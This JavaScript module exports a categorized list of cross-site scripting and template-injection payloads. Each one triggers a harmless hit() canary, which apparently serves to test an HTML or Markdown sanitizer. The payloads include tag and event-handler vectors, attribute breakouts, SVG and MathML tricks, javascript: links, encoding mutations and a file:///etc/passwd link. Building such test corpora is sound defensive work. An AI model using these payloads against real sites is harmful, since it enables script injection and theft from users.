// Texts that would run a script where a page took them for markup: `hit()` tells that one did.

const RUN = "hit()";

/** Tags whose own events need no hand. */
const TAGS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src=data:,${RUN}></script>`,
  `<script\n>${RUN}</script\n>`, `<script type=module>${RUN}</script>`, `<script/x>${RUN}</script/x>`, `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"//`, `<IMG SRC=x OnErRoR=${RUN}>`, `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN} alt='`, `<image src=x onerror=${RUN}>`, `<picture><source srcset=x><img onerror=${RUN} src=x></picture>`,
  `<body onload=${RUN}>`, `<iframe src=javascript:top.${RUN}></iframe>`, `<iframe srcdoc="<script>top.${RUN}</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`, `<object data=javascript:${RUN}></object>`, `<embed src=javascript:${RUN}>`,
  `<video src=x onerror=${RUN}></video>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`, `<button autofocus onfocus=${RUN}>x</button>`, `<marquee onstart=${RUN}>x</marquee>`,
  `<p tabindex=1 autofocus onfocus=${RUN}>x</p>`, `<link rel=stylesheet href=x onerror=${RUN}>`, `<style onload=${RUN}></style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href=javascript:${RUN}//>`, `<div onpointerover=${RUN}>x</div>`,
  `<div style=animation-name:x onanimationstart=${RUN}>x</div>`, `<xss contenteditable onmouseover=${RUN}>x</xss>`,
];

/** Ways out of an attribute or an element. */
const BREAKS = [
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `"><img src=x onerror=${RUN}>`, `" onmouseover="${RUN}" x="`, `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}`, `\`><img src=x onerror=${RUN}>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</noscript><img src=x onerror=${RUN}>`,
  `\\"><script>${RUN}</script>`, `"/><svg/onload=${RUN}>`, `</option></select><img src=x onerror=${RUN}>`, `";${RUN};//`, `';${RUN};//`, `\\u003cscript\\u003e${RUN}`,
];

/** SVG and MathML. */
const FOREIGN = [
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributeName=x to=y>`,
  `<svg><a xlink:href=javascript:${RUN}><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`, `<svg><image href=x onerror=${RUN}>`, `<svg><title><style><img src=x onerror=${RUN}>`,
  `<math href=javascript:${RUN}>x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x`,
];

/** Addresses that are none, in Markdown and in HTML. */
const LINKS = [
  `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java\tscript:${RUN})`, `[x](&#106;avascript:${RUN})`, `[x](javascript&colon;${RUN})`,
  `[x](<javascript:${RUN}>)`, `[x]( javascript:${RUN})`, `[x](%6aavascript:${RUN})`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](vbscript:${RUN})`,
  `[x](x "onmouseover=${RUN}")`, `[x](x '" onmouseover="${RUN}')`, `[x][y]\n\n[y]: javascript:${RUN}`, `<javascript:${RUN}>`, `<javascript://%0a${RUN}>`,
  `![x](javascript:${RUN})`, `![x" onerror="${RUN}](x)`, `![x](x "\\" onerror=\\"${RUN}")`, `![<img src=x onerror=${RUN}>](x)`, `[<img src=x onerror=${RUN}>](x)`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="java&#10;script:${RUN}">x</a>`, `<a href="\u0001javascript:${RUN}">x</a>`.replace("\u0001", " "),
  `<form action=javascript:${RUN}><input type=submit></form>`, `<button form=x formaction=javascript:${RUN}>x</button>`, `https://x.example/"onmouseover="${RUN}`,
  `[x](//x.example\\"onmouseover=${RUN})`, `[x](file:///etc/passwd)`, `@x"><script>${RUN}</script>`,
];

/** What becomes markup only on the way. */
const CHANGES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`, `<ſcript>${RUN}</ſcript>`, `<scrİpt>${RUN}</scrİpt>`, `\\x3cscript\\x3e${RUN}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`, `<?xml ?><script>${RUN}</script>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  "```\n</code></pre><script>" + RUN + "</script>\n```", "`</code><script>" + RUN + "</script>`", `| <script>${RUN}</script> |\n| --- |\n| <img src=x onerror=${RUN}> |`,
  `> <svg onload=${RUN}>`, `- [ ] <input autofocus onfocus=${RUN}>`, `# <img src=x onerror=${RUN}>`, `<div\n\nonmouseover=${RUN}>x`,
];

/** What template languages run. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `{%raw%}<script>${RUN}</script>{%endraw%}`, `[[\${${RUN}}]]`, `{{{<script>${RUN}</script>}}}`,
];

export const PAYLOADS = [...TAGS, ...BREAKS, ...FOREIGN, ...LINKS, ...CHANGES, ...TEMPLATES];
